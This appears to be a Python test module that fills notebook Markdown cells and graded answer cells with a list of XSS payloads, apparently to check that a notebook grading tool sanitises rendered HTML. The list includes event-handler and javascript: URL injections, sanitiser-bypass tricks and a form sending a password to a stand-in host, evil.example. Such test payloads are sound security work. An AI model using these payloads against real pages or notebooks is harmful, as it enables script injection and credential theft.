"""Scripts, frames, forms and event handlers in Markdown cells and in the written answer."""

import nbformat

from attacks import put

PAGES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>\n\nx\n\n</details>",
    "</div></div></body><script>alert(1)</script>",
    "<!-- --><style>*{display:none}</style>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "$<script>alert(1)</script>$ $$\\href{javascript:alert(1)}{x}$$",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    '~~~x"><script>alert(1)</script>\ncode\n~~~',
    "# <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<\n\nscript>alert(1)</script>",
]


def attack(notebook):
    for text in PAGES:
        put(notebook, text, nbformat.v4.new_markdown_cell)
    for cell in notebook.cells:
        if cell.cell_type == "markdown" and "nbgrader" in cell.metadata:
            cell.source = "\n\n".join(PAGES)
